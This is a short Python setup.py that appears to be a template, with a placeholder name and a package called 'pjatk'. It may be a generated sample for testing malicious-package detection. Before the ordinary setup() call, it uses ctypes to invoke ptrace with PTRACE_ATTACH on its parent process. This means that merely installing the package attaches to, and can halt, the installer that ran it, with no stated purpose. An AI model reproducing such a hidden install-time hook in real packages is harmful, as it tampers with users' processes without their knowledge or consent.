import os
import sys


import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace(16, os.getppid(), None, None)

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
